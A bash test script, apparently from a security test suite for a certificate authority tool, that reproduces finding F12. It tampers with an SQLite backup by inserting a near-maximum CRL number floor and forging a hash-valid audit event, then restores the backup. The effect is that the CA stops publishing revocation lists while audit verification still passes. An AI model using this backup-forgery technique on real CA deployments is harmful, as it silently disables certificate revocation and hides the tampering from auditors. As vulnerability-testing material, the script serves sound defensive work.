#!/usr/bin/env bash
# F12 through an edited SQLite backup: the floor row plus a hash-correct register.restored event "proving" it.
# db restore --replace takes it; the CA then signs CRL 2^63-1 and never publishes again; audit verify rc=0. Exit 0.
NAME=backup-forged-floor; . "$(dirname "$0")/common.sh"
FORGE=$(dirname "$(readlink -f "$0")")/forge_event.py
setup >/dev/null || { echo setup failed; cat $W/err; exit 1; }
mkdir -p $W/bk $W/pub; chmod 700 $W/bk
as off1 crl publish --ca NCA --out $W/pub --ca-passphrase-file $W/ca.pass; show $?
as admin db backup --out $W/bk/b.sqlite; show $?
say "control: floor row only (s29 F12 D)"
cp $W/bk/b.sqlite $W/bk/c.sqlite
sqlite3 $W/bk/c.sqlite "INSERT INTO crl_number_floors(ca_id, highest_published, recorded_at) SELECT id, 9223372036854775806, '2026-12-07T00:00:00.000Z' FROM cas WHERE code='NCA'"
as admin db restore --from $W/bk/c.sqlite --replace; show $?
say "attack: floor row + forged register.restored event in the backup"
sqlite3 $W/bk/b.sqlite "INSERT INTO crl_number_floors(ca_id, highest_published, recorded_at) SELECT id, 9223372036854775806, '2026-12-07T00:00:00.000Z' FROM cas WHERE code='NCA'"
python3 $FORGE $W/bk/b.sqlite admin register.restored "/srv/backup/old.sqlite" '{"from":"/srv/backup/old.sqlite","crl_numbers_lost":{"NCA":9223372036854775806}}' | sed 's/^/   /'
as admin db restore --from $W/bk/b.sqlite --replace; say "restore --replace: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
as off1 crl publish --ca NCA --out $W/pub --ca-passphrase-file $W/ca.pass; say "crl publish: rc=$? $(head -c 200 $W/out $W/err | tr '\n' ' ')"
openssl crl -in $W/pub/NCA.crl -inform DER -noout -crlnumber | sed 's/^/   /'
as off1 crl publish --ca NCA --out $W/pub --ca-passphrase-file $W/ca.pass; say "crl publish again: rc=$? $(head -c 200 $W/out $W/err | tr '\n' ' ')"
as aud audit verify; say "audit verify: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
exit 0
